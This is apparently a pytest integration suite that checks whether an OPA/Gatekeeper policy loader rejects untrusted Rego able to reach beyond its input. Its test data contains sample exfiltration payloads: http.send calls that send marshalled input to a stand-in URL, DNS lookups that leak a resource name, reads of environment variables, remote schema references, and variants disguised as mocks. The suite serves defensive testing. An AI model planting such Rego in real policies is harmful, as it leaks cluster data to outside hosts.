"""Rego that we did not write reaches nothing but its input."""

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from jade_policy.library import load_library
from jade_policy.opa import check_library
from jade_policy.opa.capabilities import ALLOW_LIST, FORBIDDEN, allow_list
from jade_policy.opa.check import compile_library

pytestmark = pytest.mark.integration

URL = "http://127.0.0.1:9/?x="
EXFILTRATION = {
    "http.send": f'x := http.send({{"method": "get", "url": concat("", ["{URL}", json.marshal(input)])}})',
    "http.send in a comprehension": f'x := [y | y := http.send({{"method": "get", "url": "{URL}"}})]',
    "http.send as a mock": f'is_object({{"method": "get", "url": "{URL}"}}) with is_object as http.send',
    "http.send as a mock of our own function": f'f({{"method": "get", "url": "{URL}"}}) with f as http.send',
    "a DNS query": 'net.lookup_ip_addr(concat(".", [input.review.object.metadata.name, "example.com"]))',
    "a DNS query as a mock": 'lower("x.example.com") with lower as net.lookup_ip_addr',
    "the environment": "opa.runtime().env.HOME",
    "the environment in a library": "data.helpers.home",
    "a schema from elsewhere": f'json.match_schema(input, {{"$ref": "{URL}"}})',
    "a schema from elsewhere, hidden": f'json.match_schema(input, {{concat("", ["$", "ref"]): "{URL}"}})',
    "verifying a schema from elsewhere": f'json.verify_schema({{"$ref": "{URL}"}})',
    "a schema as a mock": f'object.union(input, {{"$ref": "{URL}"}}) with object.union as json.match_schema',
    "Gatekeeper's external data": 'external_data({"provider": "evil", "keys": [input]})',
    "other policies' parameters": "data.jade.params",
    "everything that is loaded": "walk(data, [p, v])",
}
HELPERS = "package helpers\nhome := opa.runtime().env.HOME\n"


@pytest.mark.parametrize("body", EXFILTRATION.values(), ids=EXFILTRATION.keys())
def test_exfiltration_is_refused(opa: Path, tmp_path: Path, body: str) -> None:
    evil = f'package evil\nf(x) := x\nviolation contains {{"msg": "x"}} if {{\n\t{body}\n}}\n'
    (tmp_path / "evil.rego").write_text(evil)
    (tmp_path / "helpers.rego").write_text(HELPERS)
    (tmp_path / "good.rego").write_text('package good\nviolation contains {"msg": "x"} if input.review\n')
    library = check_library(tmp_path, opa)
    assert [policy.id for policy in library.policies] == ["good"]
    (problem,) = library.problems
    assert problem.policy_id == "evil"
    assert problem.line == (2 if "helpers" in body else 4)


def test_a_schema_annotation_from_elsewhere_is_refused(opa: Path, tmp_path: Path) -> None:
    """OPA fetches these while it loads a module, before anything is evaluated."""
    text = f"""package evil
# METADATA
# schemas:
#   - input: {{"$ref": "{URL}"}}
violation contains {{"msg": "x"}} if input.review
"""
    (tmp_path / "evil.rego").write_text(text)
    library = check_library(tmp_path, opa)
    assert library.policies == ()
    assert "remote reference" in library.problems[0].reason


def test_the_allow_list_is_the_pinned_opas(opa: Path) -> None:
    """A new release brings new functions: look at each, then run `python -m jade_policy.opa.capabilities`."""
    output = subprocess.run([opa, "capabilities", "--current"], capture_output=True, check=True).stdout
    current: dict[str, Any] = json.loads(output)
    stored: dict[str, Any] = json.loads(ALLOW_LIST.read_bytes())
    assert stored == allow_list(current)
    assert stored["allow_net"] == []
    assert {builtin["name"] for builtin in stored["builtins"]}.isdisjoint(FORBIDDEN)
    # What may answer otherwise the next time is what may reach out: only clocks, dice and tokens are left.
    unsteady = {builtin["name"] for builtin in stored["builtins"] if builtin.get("nondeterministic")}
    assert unsteady <= {
        "io.jwt.decode_verify", "io.jwt.encode_sign", "io.jwt.encode_sign_raw", "rand.intn", "time.now_ns",
        "uuid.rfc4122",
    }  # fmt: skip


class TestErrors:
    """Each has the file and the line of its author, and costs no other policy its place."""

    TEMPLATE = """apiVersion: templates.gatekeeper.sh/v1
kind: ConstraintTemplate
metadata: {name: broken}
spec:
  crd: {spec: {names: {kind: Broken}}}
  targets:
    - target: admission.k8s.gatekeeper.sh
      rego: |
        package broken

        violation[{"msg": msg}] {
          msg := undefined_function(input.review)
        }
"""

    def test_in_a_template(self, opa: Path, tmp_path: Path) -> None:
        (tmp_path / "t.yaml").write_text("# a comment\n---\n" + self.TEMPLATE)
        (problem,) = check_library(tmp_path, opa).problems
        assert (problem.path, problem.line, problem.policy_id) == ("t.yaml", 14, "broken")
        assert "undefined_function" in problem.reason

    def test_in_a_library_that_two_policies_share(self, opa: Path, tmp_path: Path) -> None:
        (tmp_path / "lib.rego").write_text("package helpers\n\nf(x) := g(x)\n")
        for name in ("a", "b"):
            text = f'package {name}\nimport data.helpers\ndeny contains "x" if helpers.f(input.x)\n'
            (tmp_path / f"{name}.rego").write_text(text)
        (tmp_path / "c.rego").write_text('package c\ndeny contains "x" if input.x\n')
        library = check_library(tmp_path, opa)
        assert [policy.id for policy in library.policies] == ["c"]
        assert [(p.path, p.line, p.policy_id) for p in library.problems] == [
            ("lib.rego", 3, "a"),
            ("lib.rego", 3, "b"),
        ]

    def test_many_at_once(self, opa: Path, tmp_path: Path) -> None:
        bodies = ["x :=", "x := y", "http.send({})", "input.x ==", "x := 1; x := 2", "not z"]
        for index, body in enumerate(bodies):
            (tmp_path / f"p{index}.rego").write_text(
                f'package p{index}\n\ndeny contains "x" if {{\n\t{body}\n}}\n'
            )
        (tmp_path / "good.rego").write_text('package good\ndeny contains "x" if input.x\n')
        library = check_library(tmp_path, opa)
        assert [policy.id for policy in library.policies] == ["good"]
        assert [problem.path for problem in library.problems] == [
            f"p{index}.rego" for index in range(len(bodies))
        ]
        assert all(problem.line in {4, 5} for problem in library.problems)

    def test_a_wrong_guess_of_the_version_is_put_right(self, opa: Path, tmp_path: Path) -> None:
        (tmp_path / "zero.rego").write_text('package zero\ndeny["x"]\n')  # no body that would tell
        (tmp_path / "one.rego").write_text('package one\nimport rego.v1\ndeny contains "x" if input.x\n')
        library, _ = compile_library(load_library(tmp_path), opa, tmp_path / "bundle")
        assert {policy.id: policy.module.version for policy in library.policies} == {"one": 1, "zero": 0}
